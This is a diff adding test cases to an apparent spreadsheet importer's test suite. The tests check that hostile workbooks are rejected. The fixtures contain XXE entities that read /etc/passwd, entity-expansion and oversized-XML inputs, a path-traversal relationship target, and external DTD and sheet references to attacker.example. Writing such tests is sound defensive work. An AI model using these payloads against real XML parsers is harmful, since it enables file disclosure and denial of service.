@@ -146,6 +146,63 @@ describe('a hostile workbook', () => {
     expect(await faultOf(bytes)).toMatchObject({ code })
   })
 
+  it.each<[string, Record<string, string>, string]>([
+    [
+      'an entity in its shared texts',
+      { 'xl/sharedStrings.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst/>' },
+      'XML_DOCTYPE',
+    ],
+    [
+      'entities that multiply in its styles',
+      { 'xl/styles.xml': '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><styleSheet/>' },
+      'XML_DOCTYPE',
+    ],
+    [
+      'an external subset in its relationships',
+      { '_rels/.rels': '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd"><Relationships/>' },
+      'XML_DOCTYPE',
+    ],
+    [
+      'relationships without end',
+      {
+        '_rels/.rels': `<Relationships>${Array.from({ length: 10_001 }, (_, n) => `<Relationship Target="${n * 7919}"/>`).join('')}</Relationships>`,
+      },
+      'XML_TOO_COMPLEX',
+    ],
+    [
+      'styles without end',
+      {
+        'xl/styles.xml': `<styleSheet><cellXfs>${Array.from({ length: 65_537 }, (_, n) => `<xf numFmtId="${n}"/>`).join('')}</cellXfs></styleSheet>`,
+      },
+      'XML_TOO_COMPLEX',
+    ],
+    [
+      'a sheet that lies outside the archive',
+      {
+        'xl/_rels/workbook.xml.rels':
+          '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
+      },
+      'IMPORT_FORMAT',
+    ],
+    [
+      'a sheet that lies on another machine',
+      {
+        'xl/_rels/workbook.xml.rels':
+          '<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="https://attacker.example/sheet1.xml"/></Relationships>',
+      },
+      'IMPORT_FORMAT',
+    ],
+  ])('with %s is refused before its rows', async (_, files, code) => {
+    expect(await faultOf(aWorkbook({ rows: '', files }))).toMatchObject({ code })
+  })
+
+  it('within another is no workbook', async () => {
+    const bytes = aWorkbook({ rows: '' }).toString('latin1')
+    expect(await faultOf(writeZip({ 'xl/worksheets/sheet1.xml': bytes }))).toMatchObject({
+      code: 'IMPORT_FORMAT',
+    })
+  })
+
   it.each<[string, Uint8Array, string]>([
     [
       'an older or protected workbook',
